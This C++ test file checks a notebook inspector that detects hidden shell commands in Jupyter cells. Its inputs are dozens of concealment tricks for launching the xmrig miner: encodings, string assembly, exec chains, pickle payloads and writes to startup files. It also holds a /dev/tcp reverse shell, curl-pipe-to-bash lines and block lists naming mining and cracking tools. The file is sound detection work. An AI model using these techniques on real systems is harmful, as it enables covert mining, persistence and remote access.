// What an inspection finds, one claim a case: each way to hide a command, and use told from mention.
#include <doctest/doctest.h>

#include "guard/inspector.h"

using namespace stoa::guard;

namespace {

std::vector<Fact> facts_of(std::initializer_list<std::string> cells) {
    Inspector inspector;
    std::vector<Fact> out;
    std::int32_t index = 0;
    for (const auto& cell : cells) {
        const auto inspection = inspector.inspect(cell, CellKind::code, index++);
        CHECK_FALSE(inspection.budget_exceeded);
        out.insert(out.end(), inspection.facts.begin(), inspection.facts.end());
    }
    return out;
}

const Fact* find(const std::vector<Fact>& facts, FactKind kind, std::string_view value) {
    for (const Fact& fact : facts) {
        if (fact.kind == kind && fact.value == value && fact.use == Use::used) return &fact;
    }
    return nullptr;
}

bool runs(std::initializer_list<std::string> cells, std::string_view program = "xmrig") {
    const auto facts = facts_of(cells);
    const bool found = find(facts, FactKind::command, program) != nullptr;
    if (!found) {
        for (const Fact& fact : facts) MESSAGE(name_of(fact.kind) << " " << fact.value << " | " << fact.text);
    }
    return found;
}

bool uses_any(const std::vector<Fact>& facts, std::string_view word) {
    return std::ranges::any_of(facts, [&](const Fact& fact) {
        return fact.use == Use::used && (fact.value.find(word) != std::string::npos || fact.text.find(word) != std::string::npos);
    });
}

}  // namespace

TEST_CASE("commands are found however a notebook starts them") {
    CHECK(runs({"!xmrig -o x"}));
    CHECK(runs({"!!xmrig -o x"}));
    CHECK(runs({"out = !xmrig -o x"}));
    CHECK(runs({"if True:\n    !xmrig -o x"}));
    CHECK(runs({"%%bash\ncd /tmp\nxmrig -o x"}));
    CHECK(runs({"%%script bash\nxmrig -o x"}));
    CHECK(runs({"%system xmrig -o x"}));
    CHECK(runs({"%%capture out\n!xmrig"}));
    CHECK(runs({"import os\nos.system('xmrig -o x')"}));
    CHECK(runs({"from os import system as s\ns('xmrig -o x')"}));
    CHECK(runs({"import os\nos.popen('xmrig')"}));
    CHECK(runs({"import subprocess\nsubprocess.run(['/tmp/xmrig', '-o', 'x'])"}));
    CHECK(runs({"import subprocess as sp\nwith sp.Popen('xmrig', shell=True) as p: pass"}));
    CHECK(runs({"import subprocess\nsubprocess.check_output(args='xmrig -o', shell=True)"}));
    CHECK(runs({"import os\nos.execvp('xmrig', ['xmrig', '-o'])"}));
    CHECK(runs({"get_ipython().system('xmrig -o x')"}));
    CHECK(runs({"get_ipython().run_line_magic('system', 'xmrig')"}));
    CHECK(runs({"get_ipython().run_cell_magic('bash', '', 'xmrig -o x')"}));
    CHECK(runs({"!nohup setsid sudo xmrig -o x > /dev/null 2>&1 &"}));
    CHECK(runs({"!screen -dmS job xmrig -o x"}));
    CHECK(runs({"!bash -c 'xmrig -o x'"}));
    CHECK(runs({"!python3 -c \"import os; os.system('xmrig')\""}));
    CHECK(runs({"!cd /tmp && ./xmrig -o x || true"}));
    CHECK(runs({"!timeout 5 nice -n 19 xmrig"}));
    CHECK(runs({"import pty\npty.spawn('xmrig')"}));
    CHECK(runs({"import asyncio\nawait asyncio.create_subprocess_exec('xmrig', '-o')"}));
}

TEST_CASE("text that is put together is read as a whole") {
    CHECK(runs({"import os\nos.system('xm' + 'rig')"}));
    CHECK(runs({"import os\nos.system('xm' 'rig')"}));
    CHECK(runs({"import os\na = 'xm'\nb = f'{a}rig'\nos.system(b)"}));
    CHECK(runs({"import os\nos.system('%s%s' % ('xm', 'rig'))"}));
    CHECK(runs({"import os\nos.system('%(a)srig' % {'a': 'xm'})"}));
    CHECK(runs({"import os\nos.system('{}{b}'.format('xm', b='rig'))"}));
    CHECK(runs({"import os\nos.system(''.join(['x', 'm', 'rig']))"}));
    CHECK(runs({"import os\nos.system(''.join(chr(c) for c in [120, 109, 114, 105, 103]))"}));
    CHECK(runs({"import os\nos.system(''.join(map(chr, [120, 109, 114, 105, 103])))"}));
    CHECK(runs({"import os\nos.system(bytes([120, 109, 114, 105, 103]).decode())"}));
    CHECK(runs({"import os\nos.system('girmx'[::-1])"}));
    CHECK(runs({"import os\nos.system(''.join(reversed('girmx')))"}));
    CHECK(runs({"import os\nos.system('-xmrig-'[1:6])"}));
    CHECK(runs({"import os\nos.system('xQmQrQiQg'.replace('Q', ''))"}));
    CHECK(runs({"import os\nos.system('XMRIG'.lower())"}));
    CHECK(runs({"import os\nos.system('x0m0r0i0g'.split('0')[0] + 'mrig')"}));
    CHECK(runs({"import os\nos.system('\\x78\\x6d\\u0072ig')"}));
    CHECK(runs({"import os\ns = ''\nfor c in [120, 109, 114, 105, 103]:\n    s += chr(c)\nos.system(s)"}));
    CHECK(runs({"import os\nparts = []\nparts.append('xm')\nparts.append('rig')\nos.system(''.join(parts))"}));
    CHECK(runs({"import os\nd = {'a': 'xm', 'b': 'rig'}\nos.system(d['a'] + d['b'])"}));
    CHECK(runs({"import os\nos.system('knvht'.translate(str.maketrans('knvht', 'xmrig')))"}));
    CHECK(runs({"name = 'xmrig'\n!./{name} -o x"}));
    CHECK(runs({"name = 'xmrig'\n!$name -o x"}));
    CHECK(runs({"!A=xm; B=rig; $A$B -o x"}));
    CHECK(runs({"!x'm'\"r\"ig -o x"}));
    CHECK(runs({"!\\x\\m\\r\\i\\g"}));
    CHECK(runs({"!$'\\x78mrig' -o x"}));
    CHECK(runs({"import os\nos.environ['P'] = 'xmrig'", "!$P -o x"}));
    CHECK(runs({"import os\nd = [109, 120, 103, 124, 114]\ni = 0\ns = ''\nwhile i < len(d):\n    s += chr(d[i] ^ 21)\n    i += 1\nos.system(s)"}));
    CHECK(runs({"import os\ndef parts():\n    yield 'xm'\n    yield 'rig'\nos.system(''.join(parts()))"}));
    CHECK(runs({"import os\ntry:\n    raise ValueError('xmrig')\nexcept ValueError as e:\n    os.system(str(e))"}));
    CHECK(runs({"import os\ndef f():\n    \"xmrig\"\nos.system(f.__doc__)"}));
    CHECK(runs({"import os, re\nos.system(re.sub('#', '', 'x#m#r#i#g'))"}));
    CHECK(runs({"import os\nos.system('ynsjh'.translate(str.maketrans({chr(i): chr(i - 1) for i in range(98, 123)})))"}, "xmrig"));
    CHECK(runs({"import os\nn = 9541251683077449957062534066037\nos.system(n.to_bytes((n.bit_length() + 7) // 8, 'big').decode())"}, "xmrig-for-you"));
}

TEST_CASE("loops, generators and numbers that hide nothing end no inspection") {
    CHECK(facts_of({"i = 0\nwhile i < 10:\n    print(chr(65 + i))"}).size() < 100);
    CHECK(facts_of({"s = b''\nwhile len(s) < 5:\n    t = bytes(3)"}).size() < 100);
    CHECK(facts_of({"def f():\n    while True:\n        yield chr(65)\nfor c in f():\n    print(c)"}).size() < 100);
    CHECK(facts_of({"n = " + std::string(1'000, '9') + "\nb = n.to_bytes(500, 'big')"}).size() < 100);
    CHECK(facts_of({"class A:\n    def __reduce__(self):\n        return (A, (A(), ))\nimport pickle\npickle.dumps(A())"}).size() < 100);
}

TEST_CASE("each encoding is undone") {
    const std::string go = "import base64, zlib, gzip, bz2, lzma, codecs, binascii, os\n";
    CHECK(runs({go + "os.system(base64.b64decode('eG1yaWc=').decode())"}));
    CHECK(runs({go + "os.system(base64.urlsafe_b64decode(b'eG1yaWc=').decode())"}));
    CHECK(runs({go + "os.system(base64.b32decode('PBWXE2LH').decode())"}));
    CHECK(runs({go + "os.system(base64.b16decode('786D726967').decode())"}));
    CHECK(runs({go + "os.system(base64.b85decode('cx`fNX8').decode())"}));
    CHECK(runs({go + "os.system(base64.a85decode(bytes.fromhex('475c714a384229').decode()).decode())"}));
    CHECK(runs({go + "os.system(bytes.fromhex('786d726967').decode())"}));
    CHECK(runs({go + "os.system(binascii.unhexlify('786d726967').decode())"}));
    CHECK(runs({go + "os.system(codecs.decode('kzevt', 'rot13'))"}));
    CHECK(runs({go + "os.system(codecs.decode('kzevt', 'rot_13'))"}));
    CHECK(runs({go + "os.system(zlib.decompress(base64.b64decode('eJyryC3KTAcABqACKA==')).decode())"}));
    CHECK(runs({go + "k = 7\nos.system(''.join(chr(ord(c) ^ k) for c in '\\x7f\\x6a\\x75\\x6e\\x60'))"}));
    CHECK(runs({go + "key = b'K'\ndata = bytes.fromhex('332639222c')\nos.system(bytes(a ^ key[i % len(key)] for i, a in enumerate(data)).decode())"}));
    CHECK(runs({"!echo eG1yaWcgLW8geA== | base64 -d | bash"}));
    CHECK(runs({"!bash <<< \"$(echo eG1yaWc= | base64 --decode)\""}));
    CHECK(runs({"!eval \"$(echo 786d726967 | xxd -r -p)\""}));
    CHECK(runs({"!echo girmx | rev | sh"}));
    CHECK(runs({"!echo kzevt | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"}));
}

TEST_CASE("chains of exec, eval, compile, getattr and imports are followed") {
    CHECK(runs({"exec('import os; os.system(\"xmrig\")')"}));
    CHECK(runs({"eval(compile('__import__(\"os\").system(\"xmrig\")', 'a', 'eval'))"}));
    CHECK(runs({"exec(\"exec('import os\\\\nos.system(chr(120)+\\\"mrig\\\")')\")"}));
    CHECK(runs({"getattr(__import__('o' + 's'), 'sys' + 'tem')('xmrig')"}));
    CHECK(runs({"import importlib\nimportlib.import_module('subprocess').call(['xmrig'])"}));
    CHECK(runs({"globals()['__import__']('os').system('xmrig')"}));
    CHECK(runs({"import builtins\nbuiltins.exec('__import__(\"os\").system(\"xmrig\")')"}));
    CHECK(runs({"f = __import__('os').system\nf('xmrig')"}));
    CHECK(runs({"import base64\ndef d(s):\n    return base64.b64decode(s).decode()\nimport os\nos.system(d('eG1yaWc='))"}));
    CHECK(runs({"d = lambda s: s[::-1]\nimport os\nos.system(d('girmx'))"}));
    CHECK(runs({"class A:\n    def go(self):\n        import os\n        os.system('xmrig')"}));
}

TEST_CASE("a connection that a shell's redirection opens is an address that is used") {
    CHECK(find(facts_of({"!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}), FactKind::url, "/dev/tcp/192.0.2.1/4444") != nullptr);
    CHECK_FALSE(uses_any(facts_of({"print('bash -i >& /dev/tcp/192.0.2.1/4444')"}), "/dev/tcp"));
}

TEST_CASE("what a dictionary says stands in the words of the call that gets it") {
    const auto facts = facts_of({"net.run(None, {'target': crop, 'source': identity, 'size': [128, 128]})"});
    const Fact* call = find(facts, FactKind::call, "net.run");
    REQUIRE(call != nullptr);
    CHECK(call->text.find("target: ") != std::string::npos);
    CHECK(call->text.find("size: [128, 128]") != std::string::npos);
}

TEST_CASE("what is written into a startup file runs at the next start, and is read") {
    CHECK(runs({"!echo 'xmrig -o x' >> ~/.bashrc"}));
    CHECK(runs({"%%writefile /home/person/.ipython/profile_default/startup/00-a.py\nimport os\nos.system('xmrig')"}));
    CHECK(runs({"%%writefile .ipython/profile_default/startup/a.ipy\n!xmrig"}));
    CHECK(runs({"import os\np = os.path.expanduser('~/.ipython/profile_default/startup/00-a.py')\nopen(p, 'w').write('import os; os.system(\"xmrig\")')"}));
    CHECK(runs({"open('/usr/lib/python3/dist-packages/a.pth', 'w').write('import os; os.system(\"xmrig\")')"}));
    CHECK(runs({"import pathlib\npathlib.Path('sitecustomize.py').write_text('import subprocess\\nsubprocess.run([\"xmrig\"])')"}));
    CHECK_FALSE(uses_any(facts_of({"%%writefile notes.txt\nxmrig -o x"}), "what starts next"));
    CHECK(find(facts_of({"!echo 'export PATH=$PATH:~/bin' >> ~/.bashrc"}), FactKind::run, "~/.bashrc") != nullptr);
}

TEST_CASE("files that one cell writes and another runs are read") {
    CHECK(runs({"%%writefile a.py\nimport os\nos.system('xmrig')", "!python a.py"}));
    CHECK(runs({"%%writefile a.sh\nxmrig -o x", "!chmod +x a.sh && ./a.sh"}));
    CHECK(runs({"with open('a.sh', 'w') as f:\n    f.write('xmrig -o x')", "!bash a.sh"}));
    CHECK(runs({"open('/tmp/a.sh', 'w').write('xm')\nopen('/tmp/a.sh', 'a').write('rig')", "!sh /tmp/a.sh"}));
    CHECK(runs({"from pathlib import Path\nPath('b.py').write_text('import os; os.system(\"xmrig\")')", "import b"}));
    CHECK(runs({"!echo 'xmrig -o x' > go.sh", "!bash go.sh"}));
    CHECK(runs({"%%bash\ncat > go.sh <<EOF\nxmrig -o x\nEOF\nbash go.sh"}));
    CHECK(runs({"%%writefile a.py\n!xmrig", "%run a.py"}));
    CHECK(runs({"%%writefile a.py\nimport os; os.system('xmrig')", "exec(open('a.py').read())"}));
    CHECK(runs({"!wget -q https://example.org/xmrig -O helper && chmod +x helper", "!./helper -o x"}));
    CHECK(runs({"!mv xmrig systemd-helper", "!./systemd-helper -o x"}));
    CHECK(runs({"a = 'xm'", "b = a + 'rig'", "import os\nos.system(b)"}));
}

TEST_CASE("a word that is only mentioned is not used") {
    CHECK_FALSE(uses_any(facts_of({"# xmrig -o pool"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"print('xmrig')"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"'''\n!xmrig -o x\n'''"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"def f():\n    \"\"\"Runs xmrig.\"\"\"\n    return 1"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"banned = ['xmrig', 'hashcat']\nif any(b in t for b in banned):\n    raise ValueError('no xmrig')"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"text = '''a corpus\nwith xmrig in it'''\nn = len(text)"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"!echo xmrig"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"!ps aux | grep xmrig"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"!pkill xmrig"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"import logging\nlogging.info('xmrig')"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"x = (10\n  % xmrig)\n"}), "command"));
}

TEST_CASE("what a text is searched with is no use of it, and text that merely has a colon is no address") {
    CHECK_FALSE(uses_any(facts_of({"if url.startswith('https://github.com/a/xmrig'): block(url)"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"import re\nfound = re.search('xmrig|https://pool.example.org', text)"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"bad = frame[frame.domain.str.contains('xmrig.example.org')]"}), "xmrig"));
    CHECK_FALSE(uses_any(facts_of({"bad = frame[frame.program.isin(['xmrig', 'minerd'])]"}), "minerd"));
    CHECK(find(facts_of({"plt.title('stratum 1: n=30')\nshow('socks5: how it greets')"}), FactKind::url, "stratum 1:") == nullptr);
    CHECK(find(facts_of({"show('socks5: how it greets')"}), FactKind::url, "socks5:") == nullptr);
    CHECK(find(facts_of({"begin('stratum+ssl://far.example.org:443', 'socks5h://near:1080')"}), FactKind::url, "stratum+ssl://far.example.org:443") != nullptr);
    CHECK(find(facts_of({"begin('socks5h://near:1080')"}), FactKind::url, "socks5h://near:1080") != nullptr);
}

TEST_CASE("what is mentioned is kept as a mention") {
    const auto facts = facts_of({"# xmrig\nprint('xmrig')"});
    CHECK(std::ranges::count_if(facts, [](const Fact& fact) { return fact.use == Use::mentioned; }) == 2);
}

TEST_CASE("what runs and can't be read is a fact of its own") {
    CHECK(find(facts_of({"import requests\nexec(requests.get(address).text)"}), FactKind::opaque, "exec runs what is not known") != nullptr);
    const auto piped = facts_of({"!curl -s https://example.org/a.sh | bash"});
    CHECK(find(piped, FactKind::opaque, "bash runs its input") != nullptr);
    CHECK(find(piped, FactKind::url, "https://example.org/a.sh") != nullptr);
}

TEST_CASE("text with a fault in it is read as far as it goes") {
    CHECK(runs({"%%bash\nxmrig -o x\nif [[ x ]; then\n"}));
    CHECK(runs({"import os\nos.system('xmrig')\ndef broken(:\n    pass\n"}));
}

TEST_CASE("facts have their places") {
    const auto facts = facts_of({"x = 1", "\nimport os\nos.system('ls; xmrig')\n!second\n"});
    const Fact* first = find(facts, FactKind::command, "xmrig");
    REQUIRE(first != nullptr);
    CHECK(first->place == Place{1, 3, 1});
    const Fact* second = find(facts, FactKind::command, "second");
    REQUIRE(second != nullptr);
    CHECK(second->place == Place{1, 4, 0});
}

TEST_CASE("imports, packages, addresses and calls are facts") {
    const auto facts = facts_of({"import libtorrent as lt\nfrom a.b import c as d\nses = lt.session()\nses.add_torrent({'save': 1})\nd(paste_back=True)",
                                 "%pip install -q 'torch==2.1' numpy\n!apt-get install -y hashcat\n!git clone https://example.org/x/y.git"});
    CHECK(find(facts, FactKind::import, "libtorrent") != nullptr);
    CHECK(find(facts, FactKind::import, "a.b.c") != nullptr);
    CHECK(find(facts, FactKind::call, "libtorrent.session().add_torrent") != nullptr);
    const Fact* call = find(facts, FactKind::call, "a.b.c");
    REQUIRE(call != nullptr);
    CHECK(call->text == "paste_back=True");
    CHECK(find(facts, FactKind::package, "torch") != nullptr);
    CHECK(find(facts, FactKind::package, "numpy") != nullptr);
    CHECK(find(facts, FactKind::package, "hashcat") != nullptr);
    CHECK(find(facts, FactKind::url, "https://example.org/x/y.git") != nullptr);
}

TEST_CASE("what an object names to be called when it is loaded is read as a call") {
    CHECK(runs({"import pickle, os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('xmrig',))\npickle.loads(pickle.dumps(E()))"}));
}

TEST_CASE("pickles and marshalled code are read and never run") {
    // pickle.dumps of os.system('xmrig'), protocol 0
    CHECK(runs({"import pickle\npickle.loads(b\"cposix\\nsystem\\np0\\n(Vxmrig -o x\\np1\\ntp2\\nRp3\\n.\")"}));
    const auto facts = facts_of({"import marshal\nexec(marshal.loads(b'\\xe3\\x00z\\x05xmrig\\xda\\x06system'))"});
    CHECK(find(facts, FactKind::call, "?.system") != nullptr);
    CHECK(find(facts, FactKind::constant, "xmrig") != nullptr);
    CHECK(find(facts, FactKind::constant, "system") != nullptr);
}

TEST_CASE("what a kernel forgot by restarting is not known any more") {
    Inspector inspector;
    CHECK(inspector.inspect("a = 'xmrig'", CellKind::code, 0).facts.empty());
    inspector.forget_names();
    const auto after = inspector.inspect("import os\nos.system(a)", CellKind::code, 1);
    CHECK(find(after.facts, FactKind::command, "xmrig") == nullptr);
    CHECK(find(after.facts, FactKind::opaque, "a command that is not known") != nullptr);
}

TEST_CASE("a list within itself, and lists as deep as the code is long, end nothing") {
    CHECK(runs({"a = [None]\nb = [a]\nb[0].append(b)\na[0:1].append(b)\nprint(a)\nf(b)\n!xmrig"}));
    CHECK(runs({"d = {}\nd['d'] = d\nd['e'] = [d]\nf(d)\n!xmrig"}));
    CHECK(runs({"stack = [None]\nnow = stack\nfor i in 'ab':\n    now = [now]\n    now[0].append(now)\nfor ch in now:\n    ch[1].append(now)\n!xmrig"}));
    std::string deep = "x = 1\n";
    for (int i = 0; i < 20'000; ++i) deep += i % 3 == 0 ? "x = [x]\n" : i % 3 == 1 ? "x = {1: x}\n" : "x = open(x)\n";
    Inspector inspector(limits_of_a_deep_look());
    CHECK(find(inspector.inspect(deep + "f(x)\nimport xmrig", CellKind::code, 0).facts, FactKind::import, "xmrig") != nullptr);
}

TEST_CASE("what is called again and again is a fact, with what the loop goes over") {
    const auto looped = [](const std::string& cell, std::string_view name) {
        for (const Fact& fact : facts_of({cell})) {
            if (fact.kind == FactKind::loop && fact.value == name) return fact.text.substr(0, fact.text.find(':'));
        }
        return std::string("none");
    };
    CHECK(looped("import zipfile\nz = zipfile.ZipFile(x)\nfor w in open(y): z.extractall(pwd=w)", "zipfile.ZipFile().extractall") == "lines of a file, dropped");
    CHECK(looped("with open(y) as f:\n    words = [w.strip() for w in f.readlines()]\nfor w in words: tried(w)", "tried") == "lines of a file, dropped");
    CHECK(looped("import threading, requests\ndef work():\n    while True:\n        requests.get(u)\nfor i in range(500): threading.Thread(target=work).start()", "requests.get") == "endless, dropped");
    CHECK(looped("while True: r = requests.get(u)", "requests.get") == "endless");
    CHECK(looped("requests.get(u)", "requests.get") == "none");
    // A bar around the lines, and a pool that is given them, change nothing of what is gone over.
    CHECK(looped("from tqdm import tqdm\nfor w in tqdm(open(y)): tried(w)", "tried") == "lines of a file, dropped");
    CHECK(looped("from tqdm import tqdm\nfor w in tqdm(rows): tried(w)", "tried") == "items, dropped");
    CHECK(looped("from multiprocessing import Pool\ndef work(w): return tried(w)\nPool(4).map(work, open(y))", "tried") == "threads, lines of a file");
    CHECK(looped("from multiprocessing import Pool\ndef work(w): return tried(w)\nPool(4).map(work, rows)", "tried") == "threads");
    CHECK(looped("def f():\n    requests.get(u)\nfor i in range(3): print(i)", "requests.get") == "none");
}

TEST_CASE("a loop whose rounds look alike at first is read to where they differ") {
    CHECK(runs({"import os\nwords = ['ls', 'ls', 'ls', 'ls', 'xmrig -o x']\nfor i in range(5):\n    os.system(words[i])"}));
    CHECK(runs({"import os\nwords = {7: 'xmrig -o x'}\nfor i in range(9):\n    word = words.get(i, 'ls')\n    line = words[i]\n    os.system(line)"}));
    // Nothing is run within the loop, and what it leaves is.
    CHECK(runs({"import os\nout = ''\nfor c in [127, 106, 117, 110, 96]:\n    out += chr(c ^ 7)\nos.system(out)"}));
    CHECK(runs({"import os\nout = []\nfor c in 'xmrig':\n    out.append(c)\nos.system(''.join(out))"}));
    CHECK(runs({"import os\nn = 0\nfor _ in range(5):\n    n += 1\nos.system(['', '', '', '', '', 'xmrig'][n])"}));
    CHECK(runs({"import os\nfor i in range(5):\n    pass\nos.system(['', '', '', '', 'xmrig'][i])"}));
    CHECK(runs({"import os\ndef f(i):\n    return ['', '', '', 'xmrig'][i]\nfor i in range(4):\n    os.system(f(i))"}));
    CHECK(runs({"import os\nstep = {'n': 0}\nnames = ['ls', 'ls', 'ls', 'xmrig']\nfor _ in range(4):\n    os.system(names[step['n']])\n    step['n'] = step['n'] + 1"}));
    CHECK(runs({"for c in 'xmrig':\n    open('a.sh', 'a').write(c)\n!sh a.sh"}));
    CHECK(runs({"import os\nfor c in 'xmrig':\n    os.environ['X'] = os.environ.get('X', '') + c\nos.system('$X')"}));
    CHECK(runs({"import os\nout = ''\nfor a in range(3):\n    for c in 'xmrig':\n        if a == 2:\n            pass\n        out = out + c\nos.system(out[10:])"}));
}

TEST_CASE("a loop that trains is read as far as it says anything, and not a thousand times") {
    std::string code = "import torch\nlosses = []\nfor epoch in range(4000):\n";
    for (int i = 0; i < 30; ++i) code += "    loss = criterion(model(batch), target)\n    loss.backward()\n    losses.append(loss.item())\n    optimizer.step()\n";
    code += "    print(f'{epoch}: {loss}')\n";
    Inspector inspector(Limits{.steps = 5'000});
    CHECK_FALSE(inspector.inspect(code, CellKind::code, 0).budget_exceeded);
}
